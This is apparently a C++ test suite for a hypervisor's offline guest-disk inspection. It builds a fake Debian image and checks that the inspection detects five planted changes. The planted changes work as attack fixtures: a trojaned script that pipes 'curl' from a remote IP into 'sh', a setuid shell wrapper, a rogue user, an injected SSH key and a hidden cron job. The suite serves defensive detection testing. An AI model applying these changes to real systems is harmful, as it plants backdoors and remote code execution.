// Guest-disk inspection with a real libguestfs appliance, on qcow2 images the test builds from a
// Debian-looking tree: what one inspection reads, that two inspections around five planted
// changes report exactly those five, that the image is never written, that the time limit holds
// and that a disk without an OS is a clear error. Root only (libguestfs's direct backend and the
// image's owners); under software emulation, as KVM is unusable on these machines.
#include "palisade/hypervisor/guest_inspection.h"

#include <dirent.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <openssl/evp.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <set>
#include <sstream>
#include <string_view>

#include "guest_disk_image.h"
#include "test_keys.h"

namespace palisade::hypervisor {
namespace {

namespace fs = std::filesystem;
using testing::build_disk_image;
using testing::GuestRootfs;
using namespace testing;
using Clock = std::chrono::steady_clock;

constexpr gid_t kShadowGid = 42;
constexpr gid_t kCrontabGid = 101;
constexpr uid_t kAlice = 1000;
constexpr uid_t kSvc = 998;

std::string sha256_hex(std::string_view data) {
  unsigned char digest[EVP_MAX_MD_SIZE];
  unsigned int size = 0;
  EVP_Digest(data.data(), data.size(), digest, &size, EVP_sha256(), nullptr);
  std::string out;
  char hex[3];
  for (unsigned int i = 0; i < size; ++i) {
    std::snprintf(hex, sizeof(hex), "%02x", digest[i]);
    out += hex;
  }
  return out;
}

std::string read_file(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

// What a disk image is, for telling whether anything wrote to it.
struct ImageState {
  std::string sha256;
  uint64_t size = 0;
  int64_t mtime_ns = 0;
  bool operator==(const ImageState&) const = default;
};

ImageState image_state(const fs::path& path) {
  struct stat st {};
  if (::stat(path.c_str(), &st) != 0) return {};
  return {sha256_hex(read_file(path)), static_cast<uint64_t>(st.st_size),
          st.st_mtim.tv_sec * 1000000000LL + st.st_mtim.tv_nsec};
}

constexpr std::string_view kEdrDemo = "#!/bin/sh\necho \"edr demo $*\"\n";
constexpr std::string_view kEdrDemoTrojaned = "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n";
constexpr std::string_view kPasswdTool = "#!/bin/sh\necho passwd stand-in\n";

// A small Debian 12 guest: enough for libguestfs to recognise it, and one of everything the
// inspection reads.
void plant_debian_guest(GuestRootfs& root) {
  for (const char* dir : {"/dev", "/proc", "/sys", "/run", "/tmp", "/var/tmp", "/var/log",
                          "/usr/lib", "/usr/local/bin"}) {
    root.mkdir(dir);
  }
  root.write("/bin/dash", "#!/bin/dash stand-in\n", 0755);
  root.symlink("dash", "/bin/sh");
  root.write("/sbin/agetty", "agetty stand-in\n", 0755);
  root.symlink("/lib/systemd/systemd", "/sbin/init");
  root.write("/usr/bin/edr-demo", std::string(kEdrDemo), 0755);
  root.write("/usr/bin/passwd", std::string(kPasswdTool), 04755);
  root.write("/usr/bin/chage", "#!/bin/sh\necho chage stand-in\n", 02755, 0, kShadowGid);
  root.write("/usr/sbin/cron", "cron stand-in\n", 0755);
  root.write(
      "/etc/os-release",
      "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\n"
      "VERSION_ID=\"12\"\nVERSION=\"12 (bookworm)\"\nVERSION_CODENAME=bookworm\nID=debian\n");
  root.write("/etc/debian_version", "12.5\n");
  root.write("/etc/hostname", "web-01\n");
  root.write("/etc/hosts", "127.0.0.1\tlocalhost\n127.0.1.1\tweb-01\n");
  root.write("/etc/fstab", "UUID=6a1a7c1e-0000-4d2b-9c1e-000000000001 / ext4 defaults 0 1\n");
  root.write("/etc/passwd",
             "root:x:0:0:root:/root:/bin/bash\n"
             "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
             "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
             "alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash\n"
             "toor:x:0:0::/root:/bin/sh\n"
             "svc:x:998:998::/srv/svc:/usr/sbin/nologin\n");
  root.write("/etc/group",
             "root:x:0:\ndaemon:x:1:\nshadow:x:42:\nsudo:x:27:alice\nwww-data:x:33:\n"
             "crontab:x:101:\nalice:x:1000:\nsvc:x:998:\n");
  root.write("/etc/shadow", "root:*:19700:0:99999:7:::\nalice:!:19700:0:99999:7:::\n", 0640, 0,
             kShadowGid);
  root.write("/etc/sudoers",
             "# See sudoers(5)\nDefaults\tenv_reset\n\nroot\tALL=(ALL:ALL) ALL\n"
             "%sudo\tALL=(ALL:ALL) ALL\n\n@includedir /etc/sudoers.d\n",
             0440);
  root.write("/etc/sudoers.d/README", "# Files in this directory are read by sudo.\n", 0440);
  root.write("/etc/sudoers.d/web",
             "alice ALL=(root) NOPASSWD: /usr/bin/systemctl restart web  # deploys\n", 0440);
  root.write("/etc/sudoers.d/web.dpkg-old", "alice ALL=(ALL) NOPASSWD: ALL\n", 0440);
  root.write("/etc/crontab",
             "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
             "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n");
  root.write("/etc/cron.d/backup", "30 2 * * * root /usr/bin/edr-demo --backup\n");
  root.write("/etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n",
             0755);
  root.write("/etc/cron.daily/.placeholder", "# keeps the directory\n");
  root.mkdir("/var/spool/cron/crontabs", 01730, 0, kCrontabGid);
  root.write("/var/spool/cron/crontabs/alice", "*/5 * * * * /home/alice/bin/sync\n", 0600, kAlice,
             kCrontabGid);
  root.write("/etc/systemd/system/edr-demo.service",
             "[Unit]\nDescription=EDR demo\n[Service]\nExecStart=/usr/bin/edr-demo --daemon\n"
             "[Install]\nWantedBy=multi-user.target\n");
  root.symlink("/etc/systemd/system/edr-demo.service",
               "/etc/systemd/system/multi-user.target.wants/edr-demo.service");
  root.write("/lib/systemd/system/cron.service",
             "[Unit]\nDescription=cron\n[Service]\nExecStart=/usr/sbin/cron -f\n");
  root.symlink("/lib/systemd/system/cron.service",
               "/etc/systemd/system/multi-user.target.wants/cron.service");
  root.write(
      "/lib/systemd/system/ssh.service",
      "[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nExecStart=/usr/sbin/sshd\n");
  root.symlink("/lib/systemd/system/ssh.service", "/etc/systemd/system/sshd.service");
  root.write("/etc/systemd/system/ssh.service.d/override.conf", "[Service]\nRestart=always\n");
  root.write("/lib/systemd/system/rescue.service", "[Unit]\nDescription=Rescue\n");
  root.write("/etc/ssh/sshd_config", "PermitRootLogin prohibit-password\n");
  root.mkdir("/root", 0700);
  root.mkdir("/root/.ssh", 0700);
  root.write("/root/.ssh/authorized_keys", std::string(kDeployKey) + " deploy@ci\n", 0600);
  root.mkdir("/home/alice", 0755, kAlice, kAlice);
  root.mkdir("/home/alice/.ssh", 0700, kAlice, kAlice);
  root.write("/home/alice/.ssh/authorized_keys", std::string(kAliceKey) + " alice@laptop\n", 0600,
             kAlice, kAlice);
  // A home reached through a symlink: its keys count all the same.
  root.symlink("var/srv", "/srv");
  root.mkdir("/var/srv/svc/.ssh", 0700, kSvc, kSvc);
  root.write(
      "/var/srv/svc/.ssh/authorized_keys",
      std::string("restrict,command=\"/usr/bin/backup --serve\" ") + kDeployKey + " svc@ci\n", 0600,
      kSvc, kSvc);
  std::string status;
  for (const auto& [name, version] :
       std::vector<std::pair<std::string, std::string>>{{"base-files", "12.4+deb12u5"},
                                                        {"cron", "3.0pl1-162"},
                                                        {"openssh-server", "1:9.2p1-2+deb12u3"},
                                                        {"sudo", "1.9.13p3-1+deb12u1"}}) {
    status += "Package: " + name +
              "\nStatus: install ok installed\nPriority: optional\nSection: admin\n"
              "Maintainer: Debian <debian@example.org>\nArchitecture: amd64\nVersion: " +
              version + "\nDescription: " + name + " (test fixture)\n\n";
  }
  status +=
      "Package: telnetd\nStatus: deinstall ok config-files\nArchitecture: amd64\n"
      "Version: 0.17-44\nDescription: removed long ago\n\n";
  root.write("/var/lib/dpkg/status", status);
}

// The five changes the comparison must report, and nothing else.
void plant_changes(GuestRootfs& root) {
  root.append("/etc/passwd", "mallory:x:1001:1001::/home/mallory:/bin/bash\n");
  root.append("/home/alice/.ssh/authorized_keys", std::string(kMalloryKey) + " mallory@evil\n");
  root.write("/etc/cron.d/update-check", "*/10 * * * * root /var/tmp/.update\n");
  // Other content under the same mode, owner and modification time: only the hash tells.
  const fs::path demo = root.host_path("/usr/bin/edr-demo");
  struct stat st {};
  ::stat(demo.c_str(), &st);
  root.write("/usr/bin/edr-demo", std::string(kEdrDemoTrojaned), 0755);
  const timespec times[2] = {st.st_atim, st.st_mtim};
  ::utimensat(AT_FDCWD, demo.c_str(), times, 0);  // and the same modification time
  root.write("/usr/bin/sushi", "#!/bin/sh\nexec /bin/sh -p\n", 04755);
}

InspectionOptions options_for(const fs::path& image) {
  InspectionOptions o;
  o.disks = {{image.string(), "qcow2"}};
  o.backend = "direct";  // KVM hangs here: software emulation
  o.backend_settings = {"force_tcg"};
  return o;
}

// One image inspected, and the image's state on both sides of the inspection.
struct Inspected {
  fs::path image;
  ImageState before;
  ImageState after;
  GuestInventory inventory;
};

Inspected build_and_inspect(const GuestRootfs& root, const fs::path& image) {
  Inspected out;
  out.image = image;
  build_disk_image(root.dir(), image);
  out.before = image_state(image);
  const Clock::time_point start = Clock::now();
  out.inventory = inspect_guest(options_for(image));
  std::printf(
      "inspected %s in %lld ms: %zu files, %zu warnings\n", image.filename().c_str(),
      static_cast<long long>(
          std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - start).count()),
      out.inventory.files.size(), out.inventory.warnings.size());
  out.after = image_state(image);
  return out;
}

struct Suite {
  fs::path dir;
  std::optional<Inspected> first;   // the planted tree
  std::optional<Inspected> second;  // the same tree after the five changes
  std::string error;
};

Suite* suite = nullptr;

class GuestInspectionTest : public ::testing::Test {
 protected:
  // Two inspections for the whole suite: each launches an appliance (~10-25 s under TCG).
  static void SetUpTestSuite() {
    if (geteuid() != 0) return;
    suite = new Suite;
    suite->dir =
        fs::temp_directory_path() / ("palisade-guest-inspection-" + std::to_string(getpid()));
    fs::remove_all(suite->dir);
    try {
      GuestRootfs root(suite->dir / "rootfs");
      plant_debian_guest(root);
      suite->first = build_and_inspect(root, suite->dir / "first.qcow2");
      plant_changes(root);
      suite->second = build_and_inspect(root, suite->dir / "second.qcow2");
    } catch (const std::exception& e) {
      suite->error = e.what();
    }
  }

  static void TearDownTestSuite() {
    if (suite == nullptr) return;
    std::error_code ec;
    fs::remove_all(suite->dir, ec);
    delete suite;
    suite = nullptr;
  }

  void SetUp() override {
    if (geteuid() != 0) GTEST_SKIP() << "needs root (libguestfs direct backend, image owners)";
    ASSERT_TRUE(suite->error.empty()) << suite->error;
    ASSERT_TRUE(suite->first && suite->second);
  }

  const GuestInventory& first() const { return suite->first->inventory; }
  const GuestInventory& second() const { return suite->second->inventory; }

  static const fim::FileRecord* record(const std::vector<fim::FileRecord>& records,
                                       const std::string& path) {
    for (const fim::FileRecord& r : records) {
      if (r.path == path) return &r;
    }
    return nullptr;
  }
};

TEST_F(GuestInspectionTest, IdentifiesTheOperatingSystem) {
  EXPECT_EQ(first().os_type, "linux");
  EXPECT_EQ(first().distro, "debian");
  EXPECT_EQ(first().major_version, 12);
  EXPECT_EQ(first().minor_version, 5);
  EXPECT_EQ(first().hostname, "web-01");
  EXPECT_EQ(first().product_name, "12.5");  // libguestfs names Debian by /etc/debian_version
  EXPECT_EQ(first().root, "/dev/sda1");
  EXPECT_GT(first().time_ms, 0);
  EXPECT_GT(first().duration_ms, 0);
  EXPECT_TRUE(first().incomplete_roots.empty());
  for (const std::string& w : first().warnings) ADD_FAILURE() << "unexpected warning: " << w;
}

TEST_F(GuestInspectionTest, ReadsUsersAndGroups) {
  const std::vector<GuestUser> expected = {{"root", 0, 0, "/root", "/bin/bash"},
                                           {"daemon", 1, 1, "/usr/sbin", "/usr/sbin/nologin"},
                                           {"www-data", 33, 33, "/var/www", "/usr/sbin/nologin"},
                                           {"alice", 1000, 1000, "/home/alice", "/bin/bash"},
                                           {"toor", 0, 0, "/root", "/bin/sh"},
                                           {"svc", 998, 998, "/srv/svc", "/usr/sbin/nologin"}};
  EXPECT_EQ(first().users, expected);
  ASSERT_EQ(first().groups.size(), 8U);
  EXPECT_EQ(first().groups[3], (GuestGroup{"sudo", 27, {"alice"}}));
}

TEST_F(GuestInspectionTest, ReadsTheSudoRulesInEffect) {
  const std::vector<std::string> expected = {
      "/etc/sudoers: Defaults env_reset", "/etc/sudoers: root ALL=(ALL:ALL) ALL",
      "/etc/sudoers: %sudo ALL=(ALL:ALL) ALL", "/etc/sudoers: @includedir /etc/sudoers.d",
      "/etc/sudoers.d/web: alice ALL=(root) NOPASSWD: /usr/bin/systemctl restart web"};
  EXPECT_EQ(first().sudoers, expected);  // README is all comments; web.dpkg-old sudo ignores
}

TEST_F(GuestInspectionTest, ReadsAuthorizedKeysWithFingerprints) {
  const std::vector<SshKey> expected = {
      {"root", "/root/.ssh/authorized_keys", "ssh-rsa", kDeployFingerprint, "deploy@ci", ""},
      {"alice", "/home/alice/.ssh/authorized_keys", "ssh-ed25519", kAliceFingerprint,
       "alice@laptop", ""},
      // toor shares root's home, so root's keys open it too
      {"toor", "/root/.ssh/authorized_keys", "ssh-rsa", kDeployFingerprint, "deploy@ci", ""},
      {"svc", "/srv/svc/.ssh/authorized_keys", "ssh-rsa", kDeployFingerprint, "svc@ci",
       "restrict,command=\"/usr/bin/backup --serve\""}};
  EXPECT_EQ(first().authorized_keys, expected);
}

TEST_F(GuestInspectionTest, ReadsCronJobs) {
  const std::vector<CronEntry> expected = {
      {"/etc/crontab", "root", "17 * * * *", "cd / && run-parts --report /etc/cron.hourly"},
      {"/etc/cron.d/backup", "root", "30 2 * * *", "/usr/bin/edr-demo --backup"},
      {"/var/spool/cron/crontabs/alice", "alice", "*/5 * * * *", "/home/alice/bin/sync"},
      {"/etc/cron.daily/logrotate", "root", "@daily", "/etc/cron.daily/logrotate"}};
  EXPECT_EQ(first().cron, expected);
}

TEST_F(GuestInspectionTest, ReadsSystemdUnitsAndWhatEnablesThem) {
  std::map<std::string, SystemdUnit> units;
  for (const SystemdUnit& u : first().units) units[u.path] = u;
  ASSERT_EQ(units.size(), 6U);
  const SystemdUnit& demo = units.at("/etc/systemd/system/edr-demo.service");
  EXPECT_TRUE(demo.enabled);
  EXPECT_EQ(
      demo.wanted_by,
      (std::vector<std::string>{"/etc/systemd/system/multi-user.target.wants/edr-demo.service"}));
  EXPECT_EQ(demo.sha256,
            sha256_hex("[Unit]\nDescription=EDR demo\n[Service]\nExecStart=/usr/bin/edr-demo "
                       "--daemon\n[Install]\nWantedBy=multi-user.target\n"));
  EXPECT_TRUE(units.at("/lib/systemd/system/cron.service").enabled);
  EXPECT_FALSE(units.at("/lib/systemd/system/rescue.service").enabled);
  EXPECT_FALSE(units.at("/lib/systemd/system/rescue.service").sha256.empty());
  EXPECT_EQ(units.at("/etc/systemd/system/sshd.service").link_target,
            "/lib/systemd/system/ssh.service");
  EXPECT_FALSE(units.at("/lib/systemd/system/ssh.service").enabled);
  EXPECT_EQ(units.at("/etc/systemd/system/ssh.service.d/override.conf").sha256,
            sha256_hex("[Service]\nRestart=always\n"));
}

TEST_F(GuestInspectionTest, FindsSetuidAndSetgidFiles) {
  ASSERT_EQ(first().setid_files.size(), 2U);
  const fim::FileRecord& chage = first().setid_files[0];
  EXPECT_EQ(chage.path, "/usr/bin/chage");
  EXPECT_EQ(chage.mode, 02755U);
  EXPECT_EQ(chage.gid, kShadowGid);
  const fim::FileRecord& passwd = first().setid_files[1];
  EXPECT_EQ(passwd.path, "/usr/bin/passwd");
  EXPECT_EQ(passwd.mode, 04755U);
  EXPECT_EQ(passwd.sha256, sha256_hex(kPasswdTool));
}

TEST_F(GuestInspectionTest, ListsInstalledPackages) {
  const std::vector<Package> expected = {{"base-files", "12.4+deb12u5", "amd64"},
                                         {"cron", "3.0pl1-162", "amd64"},
                                         {"openssh-server", "1:9.2p1-2+deb12u3", "amd64"},
                                         {"sudo", "1.9.13p3-1+deb12u1", "amd64"}};
  EXPECT_EQ(first().packages, expected);
}

TEST_F(GuestInspectionTest, RecordsTheFileBaselineInTheAgentsFormat) {
  const fim::FileRecord* demo = record(first().files, "/usr/bin/edr-demo");
  ASSERT_NE(demo, nullptr);
  EXPECT_EQ(demo->type, fim::FileType::kFile);
  EXPECT_EQ(demo->mode, 0755U);
  EXPECT_EQ(demo->uid, 0U);
  EXPECT_EQ(demo->size, kEdrDemo.size());
  EXPECT_EQ(demo->sha256, sha256_hex(kEdrDemo));
  EXPECT_TRUE(demo->fast_hash.empty());
  EXPECT_GT(demo->mtime_ns, 0);
  EXPECT_GT(demo->inode, 0U);
  const fim::FileRecord* shadow = record(first().files, "/etc/shadow");
  ASSERT_NE(shadow, nullptr);
  EXPECT_EQ(shadow->mode, 0640U);
  EXPECT_EQ(shadow->gid, kShadowGid);
  const fim::FileRecord* sh = record(first().files, "/bin/sh");
  ASSERT_NE(sh, nullptr);
  EXPECT_EQ(sh->type, fim::FileType::kSymlink);
  EXPECT_EQ(sh->link_target, "dash");
  const fim::FileRecord* etc = record(first().files, "/etc");
  ASSERT_NE(etc, nullptr);
  EXPECT_EQ(etc->type, fim::FileType::kDirectory);
  // Only the baseline's trees: nothing from /home or /var.
  for (const fim::FileRecord& r : first().files) {
    EXPECT_TRUE(r.path.rfind("/etc", 0) == 0 || r.path.rfind("/bin", 0) == 0 ||
                r.path.rfind("/sbin", 0) == 0 || r.path.rfind("/usr/bin", 0) == 0 ||
                r.path.rfind("/usr/sbin", 0) == 0)
        << r.path;
  }
}

TEST_F(GuestInspectionTest, NeverWritesToTheDiskImage) {
  EXPECT_FALSE(suite->first->before.sha256.empty());
  EXPECT_EQ(suite->first->before, suite->first->after);
  EXPECT_EQ(suite->second->before, suite->second->after);
}

TEST_F(GuestInspectionTest, ReportsExactlyThePlantedChanges) {
  const std::vector<GuestChange> changes = compare(first(), second());
  std::multiset<std::pair<std::string, std::string>> got;
  for (const GuestChange& c : changes) {
    got.emplace(c.kind, c.subject);
    std::printf("  %s %s: %s\n", c.kind.c_str(), c.subject.c_str(), c.detail.c_str());
  }
  const std::multiset<std::pair<std::string, std::string>> expected = {
      {"user-added", "mallory"},
      {"authorized-key-added", std::string("alice ") + kMalloryFingerprint},
      {"cron-added", "*/10 * * * * /var/tmp/.update"},
      {"setid-added", "/usr/bin/sushi"},
      {"file-modified", "/usr/bin/edr-demo"}};
  EXPECT_EQ(got, expected);
  for (const GuestChange& c : changes) {
    if (c.kind == "file-modified") {
      EXPECT_EQ(c.before["sha256"], sha256_hex(kEdrDemo));
      EXPECT_EQ(c.after["sha256"], sha256_hex(kEdrDemoTrojaned));
    }
    if (c.kind == "cron-added") {
      EXPECT_EQ(c.path, "/etc/cron.d/update-check");
    }
  }
}

TEST_F(GuestInspectionTest, AnInspectionComparedWithItsStoredCopyHasNoChanges) {
  const fs::path db = suite->dir / "inspections.db";
  {
    InspectionStore store(db.string());
    store.save("6a1a7c1e-ed00-4000-8000-000000000001", "web-01", "offline", first());
  }
  InspectionStore store(db.string());
  const std::optional<GuestInventory> stored = store.latest("6a1a7c1e-ed00-4000-8000-000000000001");
  ASSERT_TRUE(stored.has_value());
  EXPECT_EQ(*stored, first());
  EXPECT_TRUE(compare(*stored, first()).empty());
}

// The processes this test process started that are still there (the appliance would be one).
std::set<pid_t> children() {
  std::set<pid_t> out;
  for (const fs::directory_entry& e : fs::directory_iterator("/proc")) {
    const std::string name = e.path().filename().string();
    if (name.find_first_not_of("0123456789") != std::string::npos) continue;
    std::ifstream stat(e.path() / "stat");
    std::string line;
    std::getline(stat, line);
    const size_t close = line.rfind(')');  // the command name may hold anything but ')'
    if (close == std::string::npos) continue;
    std::istringstream fields(line.substr(close + 1));
    std::string state;
    pid_t ppid = 0;
    if (fields >> state >> ppid && ppid == getpid()) out.insert(std::stoi(name));
  }
  return out;
}

TEST_F(GuestInspectionTest, TimeLimitStopsAnInspectionAndItsAppliance) {
  InspectionOptions o = options_for(suite->first->image);
  o.time_limit = std::chrono::seconds(1);
  const Clock::time_point start = Clock::now();
  try {
    inspect_guest(o);
    FAIL() << "an inspection finished within 1 s";
  } catch (const InspectionError& e) {
    EXPECT_NE(std::string(e.what()).find("timed out after 1 s"), std::string::npos) << e.what();
    EXPECT_NE(std::string(e.what()).find(suite->first->image.string()), std::string::npos);
  }
  const auto elapsed =
      std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - start).count();
  std::printf("time-limited inspection gave up after %lld ms\n", static_cast<long long>(elapsed));
  EXPECT_LT(elapsed, 10000);  // an unbounded launch takes 10-25 s here
  EXPECT_TRUE(children().empty());
}

TEST_F(GuestInspectionTest, DiskWithoutAnOperatingSystemIsAClearError) {
  GuestRootfs data(suite->dir / "data");
  data.write("/archive/notes.txt", "no operating system here\n");
  const fs::path image = suite->dir / "data.qcow2";
  build_disk_image(data.dir(), image);
  try {
    inspect_guest(options_for(image));
    FAIL() << "an inspection found an operating system on a data disk";
  } catch (const InspectionError& e) {
    EXPECT_EQ(std::string(e.what()), "no operating system found on " + image.string());
  }
}

TEST_F(GuestInspectionTest, MissingDiskIsAClearError) {
  const std::string missing = (suite->dir / "no-such-disk.qcow2").string();
  try {
    inspect_guest(options_for(missing));
    FAIL() << "inspected a disk that does not exist";
  } catch (const InspectionError& e) {
    EXPECT_NE(std::string(e.what()).find(missing), std::string::npos) << e.what();
  }
}

}  // namespace
}  // namespace palisade::hypervisor
